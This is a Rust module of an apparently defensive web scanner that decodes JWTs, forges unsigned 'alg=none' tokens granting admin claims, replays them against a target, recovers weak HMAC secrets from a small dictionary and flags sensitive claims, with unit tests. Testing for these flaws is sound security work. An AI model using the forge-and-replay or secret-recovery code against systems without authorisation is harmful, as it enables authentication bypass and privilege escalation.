//! Token security analyzer: structural JWT decode, forged-token replay
//! (alg=none), weak-HMAC-secret recovery, algorithm-confusion advisory and
//! sensitive-claim scanning. Tokens are harvested opportunistically from the
//! target's response when none is supplied.

use base64::{engine::general_purpose::URL_SAFE_NO_PAD, Engine};
use hmac::{Hmac, Mac};
use log::debug;
use regex::Regex;
use reqwest::header::{AUTHORIZATION, SET_COOKIE};
use serde_json::{json, Value};
use sha2::Sha256;
use std::sync::Arc;
use url::Url;

use crate::core::report::{Finding, Severity};
use crate::http::HttpClient;

pub const TOOL_NAME: &str = "jwt_analyzer";

/// Dictionary for the weak-secret check. Small on purpose: the check is a
/// disclosure probe, not a cracker.
const WEAK_SECRETS: &[&str] = &["secret", "password", "123456", "admin", "test", ""];

const SENSITIVE_CLAIM_KEYWORDS: &[&str] =
    &["password", "secret", "api_key", "ssn", "credit_card"];

type HmacSha256 = Hmac<Sha256>;

/// A JWT decoded without verification.
#[derive(Debug, Clone)]
pub struct DecodedJwt {
    pub header: Value,
    pub payload: Value,
    pub signature: String,
    pub raw: String,
}

impl DecodedJwt {
    /// Structural decode: three dot-separated base64url segments whose first
    /// two decode to JSON objects.
    pub fn decode(token: &str) -> Option<Self> {
        let parts: Vec<&str> = token.split('.').collect();
        if parts.len() != 3 {
            return None;
        }

        let header_bytes = URL_SAFE_NO_PAD.decode(parts[0].trim_end_matches('=')).ok()?;
        let payload_bytes = URL_SAFE_NO_PAD.decode(parts[1].trim_end_matches('=')).ok()?;

        let header: Value = serde_json::from_slice(&header_bytes).ok()?;
        let payload: Value = serde_json::from_slice(&payload_bytes).ok()?;
        if !header.is_object() || !payload.is_object() {
            return None;
        }

        Some(Self {
            header,
            payload,
            signature: parts[2].to_string(),
            raw: token.to_string(),
        })
    }

    pub fn algorithm(&self) -> Option<&str> {
        self.header.get("alg").and_then(|v| v.as_str())
    }

    /// The signed portion: "header.payload".
    pub fn signing_input(&self) -> Option<String> {
        let mut parts = self.raw.splitn(3, '.');
        let header = parts.next()?;
        let payload = parts.next()?;
        Some(format!("{}.{}", header, payload))
    }
}

fn encode_segment(value: &Value) -> Option<String> {
    let bytes = serde_json::to_vec(value).ok()?;
    Some(URL_SAFE_NO_PAD.encode(bytes))
}

/// Builds a token from header and payload with an explicit (possibly empty)
/// signature segment.
pub fn build_token(header: &Value, payload: &Value, signature: &str) -> Option<String> {
    Some(format!(
        "{}.{}.{}",
        encode_segment(header)?,
        encode_segment(payload)?,
        signature
    ))
}

/// Unsigned token with alg=none and escalated claims, replayed to probe for
/// missing signature verification.
pub fn forge_none_token(decoded: &DecodedJwt) -> Option<String> {
    let header = json!({"alg": "none", "typ": "JWT"});
    let mut payload = decoded.payload.clone();
    if let Some(obj) = payload.as_object_mut() {
        obj.insert("role".to_string(), json!("admin"));
        obj.insert("isAdmin".to_string(), json!(true));
    }
    build_token(&header, &payload, "")
}

/// Base64url (unpadded) HMAC-SHA256 signature over the signing input.
pub fn sign_hs256(signing_input: &str, secret: &str) -> Option<String> {
    let mut mac = HmacSha256::new_from_slice(secret.as_bytes()).ok()?;
    mac.update(signing_input.as_bytes());
    Some(URL_SAFE_NO_PAD.encode(mac.finalize().into_bytes()))
}

/// Recomputes the signature with each dictionary entry; an exact match
/// discloses the secret. HS256 only, first match wins.
pub fn recover_weak_secret(decoded: &DecodedJwt) -> Option<&'static str> {
    if decoded.algorithm() != Some("HS256") {
        return None;
    }
    let signing_input = decoded.signing_input()?;
    let original_sig = decoded.signature.trim_end_matches('=');

    WEAK_SECRETS.iter().copied().find(|secret| {
        sign_hs256(&signing_input, secret)
            .map(|sig| sig == original_sig)
            .unwrap_or(false)
    })
}

/// Claim names containing a sensitive-keyword substring.
pub fn sensitive_claims(payload: &Value) -> Vec<String> {
    let mut found = Vec::new();
    if let Some(obj) = payload.as_object() {
        for key in obj.keys() {
            let lower = key.to_lowercase();
            if SENSITIVE_CLAIM_KEYWORDS.iter().any(|kw| lower.contains(kw)) {
                found.push(key.clone());
            }
        }
    }
    found
}

pub struct JwtAnalyzer {
    client: Arc<HttpClient>,
    target: Url,
}

impl JwtAnalyzer {
    pub fn new(client: Arc<HttpClient>, target: Url) -> Self {
        Self { client, target }
    }

    /// Runs every token check. All checks are independent; each failed or
    /// inapplicable check simply contributes no finding.
    pub async fn analyze(&self, token: Option<String>) -> Vec<Finding> {
        let token = match token {
            Some(t) => Some(t),
            None => self.harvest_token().await,
        };
        let token = match token {
            Some(t) => t,
            None => return Vec::new(),
        };
        let decoded = match DecodedJwt::decode(&token) {
            Some(d) => d,
            None => return Vec::new(),
        };

        let mut findings = Vec::new();
        findings.extend(self.test_none_algorithm(&decoded).await);
        findings.extend(self.test_weak_secret(&decoded));
        findings.extend(self.test_algorithm_confusion(&decoded));
        findings.extend(self.test_sensitive_claims(&decoded));
        findings
    }

    /// Opportunistic harvest: response cookies, then an Authorization
    /// response header, then a JWT-shaped match in the body. First wins.
    async fn harvest_token(&self) -> Option<String> {
        let resp = match self.client.fetch(self.target.as_str()).await {
            Ok(r) => r,
            Err(e) => {
                debug!("token harvest fetch failed: {}", e);
                return None;
            }
        };

        for value in resp.headers.get_all(SET_COOKIE) {
            if let Ok(cookie) = value.to_str() {
                let candidate = cookie
                    .split(';')
                    .next()
                    .and_then(|pair| pair.split_once('='))
                    .map(|(_, v)| v.trim());
                if let Some(candidate) = candidate {
                    if DecodedJwt::decode(candidate).is_some() {
                        return Some(candidate.to_string());
                    }
                }
            }
        }

        if let Some(auth) = resp.headers.get(AUTHORIZATION).and_then(|v| v.to_str().ok()) {
            if let Some(token) = auth.strip_prefix("Bearer ") {
                let token = token.trim();
                if DecodedJwt::decode(token).is_some() {
                    return Some(token.to_string());
                }
            }
        }

        let jwt_re = Regex::new(r"ey[A-Za-z0-9_-]+\.ey[A-Za-z0-9_-]+\.[A-Za-z0-9_-]+").ok()?;
        jwt_re
            .find(&resp.body)
            .map(|m| m.as_str().to_string())
            .filter(|t| DecodedJwt::decode(t).is_some())
    }

    /// Forges an unsigned escalated token and replays it as a bearer
    /// credential. A 200-class response is conclusive: signature checks are
    /// bypassable.
    async fn test_none_algorithm(&self, decoded: &DecodedJwt) -> Vec<Finding> {
        let forged = match forge_none_token(decoded) {
            Some(t) => t,
            None => return Vec::new(),
        };

        let resp = match self
            .client
            .fetch_with_bearer(self.target.as_str(), Some(&forged))
            .await
        {
            Ok(r) => r,
            Err(e) => {
                debug!("none-algorithm replay failed: {}", e);
                return Vec::new();
            }
        };

        if resp.is_success() {
            vec![Finding::new(
                TOOL_NAME,
                "JWT None Algorithm",
                "JWT Accepts \"none\" Algorithm",
                Severity::Critical,
                "JWT signature verification can be bypassed using \"none\" algorithm"
                    .to_string(),
            )
            .with_url(self.target.to_string())
            .with_payload(forged)
            .with_evidence(format!("Status: {}", resp.status))
            .with_remediation("Reject tokens with \"none\" algorithm. Always verify signature.")
            .with_cvss(9.8)]
        } else {
            Vec::new()
        }
    }

    fn test_weak_secret(&self, decoded: &DecodedJwt) -> Vec<Finding> {
        match recover_weak_secret(decoded) {
            Some(secret) => vec![Finding::new(
                TOOL_NAME,
                "Weak JWT Secret",
                "JWT Uses Weak Secret",
                Severity::Critical,
                format!("JWT signed with weak secret: \"{}\"", secret),
            )
            .with_evidence(format!("secret=\"{}\"", secret))
            .with_remediation("Use strong, random secrets (256+ bits). Rotate secrets regularly.")
            .with_cvss(9.1)],
            None => Vec::new(),
        }
    }

    /// RS256 tokens get an advisory: full exploitation needs the public key,
    /// so only the configuration risk is reported.
    fn test_algorithm_confusion(&self, decoded: &DecodedJwt) -> Vec<Finding> {
        if decoded.algorithm() == Some("RS256") {
            vec![Finding::new(
                TOOL_NAME,
                "Potential Algorithm Confusion",
                "JWT Algorithm Confusion Risk",
                Severity::High,
                "JWT uses RS256 - verify server rejects HS256 tokens".to_string(),
            )
            .with_remediation("Explicitly whitelist allowed algorithms. Never trust alg field.")
            .with_cvss(7.5)]
        } else {
            Vec::new()
        }
    }

    fn test_sensitive_claims(&self, decoded: &DecodedJwt) -> Vec<Finding> {
        let fields = sensitive_claims(&decoded.payload);
        if fields.is_empty() {
            return Vec::new();
        }
        vec![Finding::new(
            TOOL_NAME,
            "Sensitive Data in JWT",
            "JWT Contains Sensitive Data",
            Severity::Medium,
            format!("JWT payload contains sensitive fields: {}", fields.join(", ")),
        )
        .with_evidence(fields.join(", "))
        .with_remediation(
            "Never store sensitive data in JWT. Use opaque tokens for sensitive operations.",
        )
        .with_cvss(5.3)]
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn make_token(header: Value, payload: Value, secret: Option<&str>) -> String {
        let signing_input = format!(
            "{}.{}",
            encode_segment(&header).unwrap(),
            encode_segment(&payload).unwrap()
        );
        let signature = match secret {
            Some(s) => sign_hs256(&signing_input, s).unwrap(),
            None => "sig".to_string(),
        };
        format!("{}.{}", signing_input, signature)
    }

    #[test]
    fn test_decode_valid_token() {
        let token = make_token(
            json!({"alg": "HS256", "typ": "JWT"}),
            json!({"sub": "1234", "name": "test"}),
            Some("secret"),
        );
        let decoded = DecodedJwt::decode(&token).unwrap();
        assert_eq!(decoded.algorithm(), Some("HS256"));
        assert_eq!(decoded.payload["sub"], "1234");
    }

    #[test]
    fn test_decode_rejects_malformed_tokens() {
        assert!(DecodedJwt::decode("not-a-jwt").is_none());
        assert!(DecodedJwt::decode("a.b").is_none());
        assert!(DecodedJwt::decode("!!!.###.$$$").is_none());
        // First segment must decode to a JSON object.
        let bogus = format!("{}.{}.sig", URL_SAFE_NO_PAD.encode("plain"), URL_SAFE_NO_PAD.encode("{}"));
        assert!(DecodedJwt::decode(&bogus).is_none());
    }

    #[test]
    fn test_weak_secret_recovery_finds_secret() {
        let token = make_token(
            json!({"alg": "HS256", "typ": "JWT"}),
            json!({"sub": "user1"}),
            Some("secret"),
        );
        let decoded = DecodedJwt::decode(&token).unwrap();
        assert_eq!(recover_weak_secret(&decoded), Some("secret"));
    }

    #[test]
    fn test_weak_secret_recovery_misses_strong_secret() {
        let token = make_token(
            json!({"alg": "HS256", "typ": "JWT"}),
            json!({"sub": "user1"}),
            Some("8f1fd22b2e0c1a9dce97c2a31f9d4b53"),
        );
        let decoded = DecodedJwt::decode(&token).unwrap();
        assert_eq!(recover_weak_secret(&decoded), None);
    }

    #[test]
    fn test_weak_secret_recovery_skips_non_hs256() {
        let token = make_token(
            json!({"alg": "RS256", "typ": "JWT"}),
            json!({"sub": "user1"}),
            Some("secret"),
        );
        let decoded = DecodedJwt::decode(&token).unwrap();
        assert_eq!(recover_weak_secret(&decoded), None);
    }

    #[test]
    fn test_forged_none_token_escalates_claims() {
        let token = make_token(
            json!({"alg": "HS256", "typ": "JWT"}),
            json!({"sub": "user1", "role": "viewer"}),
            Some("secret"),
        );
        let decoded = DecodedJwt::decode(&token).unwrap();
        let forged = forge_none_token(&decoded).unwrap();

        assert!(forged.ends_with('.'));
        let parts: Vec<&str> = forged.split('.').collect();
        assert_eq!(parts.len(), 3);
        assert_eq!(parts[2], "");

        let header: Value =
            serde_json::from_slice(&URL_SAFE_NO_PAD.decode(parts[0]).unwrap()).unwrap();
        let payload: Value =
            serde_json::from_slice(&URL_SAFE_NO_PAD.decode(parts[1]).unwrap()).unwrap();
        assert_eq!(header["alg"], "none");
        assert_eq!(payload["role"], "admin");
        assert_eq!(payload["isAdmin"], true);
    }

    #[test]
    fn test_sensitive_claims_match_keyword_substrings() {
        let payload = json!({
            "sub": "user1",
            "user_password": "hunter2",
            "api_key": "abc",
            "name": "test"
        });
        let mut found = sensitive_claims(&payload);
        found.sort();
        assert_eq!(found, vec!["api_key".to_string(), "user_password".to_string()]);
    }

    #[test]
    fn test_sensitive_claims_empty_for_clean_payload() {
        let payload = json!({"sub": "user1", "exp": 123});
        assert!(sensitive_claims(&payload).is_empty());
    }
}
